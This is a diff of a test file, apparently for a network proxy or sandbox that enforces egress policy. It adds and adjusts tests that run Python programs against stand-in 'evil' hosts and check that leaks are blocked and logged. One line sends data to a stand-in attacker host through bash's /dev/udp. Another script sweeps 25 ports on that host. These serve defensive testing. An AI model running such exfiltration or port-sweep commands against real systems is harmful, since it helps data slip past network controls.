@@ -263,8 +263,8 @@ describe('P6: the proxy itself', () => {
     const policy = '*.ok.test exe=/usr/bin/dig\nok.test:*\nhttp://ok.test/*';
     const caught = await lab.run([PYTHON, program(lab, 'loopback.py'), WORLD.evil], { policy });
     const tried = attempts(caught.stdout);
-    // Two TCP ports and the one of DNS over UDP: what a scan finds is what is tried.
-    expect([...tried.keys()].filter((way) => way.startsWith('tls '))).toHaveLength(2);
+    // Sixteen ports for connections, one for DNS over TCP, one over UDP: what a scan finds is what is tried.
+    expect([...tried.keys()].filter((way) => way.startsWith('tls '))).toHaveLength(17);
     expect([...tried.keys()].filter((way) => way.startsWith('udp '))).toHaveLength(2);
     for (const [way, { got }] of tried) expect([way, got]).toEqual([way, expect.stringMatching(/refused|timed out|reset/i)]);
     expect(caught.seen.filter(({ name }) => name?.includes('stolen') || name?.includes('evil'))).toEqual([]);
@@ -274,7 +274,7 @@ describe('P6: the proxy itself', () => {
     const pid = tried.get('udp stolen.ok.test')?.pid;
     const straight = denials(caught).filter(({ dst_ip, dst_port }) => dst_ip === '127.0.0.1' && dst_port);
     expect(straight.some(({ protocol }) => protocol === 'udp')).toBe(true);
-    expect(straight.filter(({ protocol }) => protocol === 'tcp').length).toBeGreaterThanOrEqual(12);
+    expect(straight.filter(({ protocol }) => protocol === 'tcp').length).toBeGreaterThanOrEqual(17 * 6);
     for (const line of straight) expect(line).toMatchObject({ exe: PYTHON_EXE, pid });
     // The one query that the allowed program made.
     expect(caught.log.filter(({ exe }) => exe === '/usr/bin/dig').map(({ name }) => name)).toEqual(['www.ok.test']);
@@ -357,4 +357,31 @@ test('the kernel of this machine and what it lets these tests show', () => {
   expect(
     unfiltered(lab, ['bash', '-c', `echo x >/dev/udp/${WORLD.evil}/9999`]).packets.filter(({ dst }) => dst === WORLD.evil),
   ).toHaveLength(1);
+});
+
+describe('one source port for many destinations, as the kernel hands them out', () => {
+  const script = (destinations: string): string => `import socket
+${destinations}
+held = []
+for host, port in targets:
+    s = socket.socket(); s.settimeout(3); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('0.0.0.0', 44444))
+    try: s.connect((host, port)); s.sendall(b'marco' if port > 80 else b'GET /fine HTTP/1.1\\r\\nHost: ' + host.encode() + b'\\r\\n\\r\\n'); print(port, s.recv(12)); held.append(s)
+    except OSError as e: print(port, e)`;
+
+  test('allowed connections keep their owner', async () => {
+    const policy = `${WORLD.ok}:*\n${WORLD.other}:*`;
+    const { stdout, log } = await lab.run(
+      [PYTHON, '-c', script(`targets = [('${WORLD.ok}', 80), ('${WORLD.other}', 80), ('${WORLD.ok}', 9999)]`)],
+      { policy },
+    );
+    expect(stdout.split('\n').filter((line) => /HTTP\/1.1 200|marco/.test(line))).toHaveLength(3);
+    for (const line of log) expect(line).toMatchObject({ exe: PYTHON_EXE, src_port: 44444 });
+  });
+
+  test('more of them than the proxy has ports lose it, and with it the connection', async () => {
+    const targets = `targets = [('${WORLD.evil}', port) for port in range(20000, 20025)]`;
+    const caught = await lab.run([PYTHON, '-c', script(targets)], { policy: POLICY });
+    expect(reached(caught, WORLD.evil)).toEqual([]);
+    expect(denials(caught)).toHaveLength(25);
+  });
 });
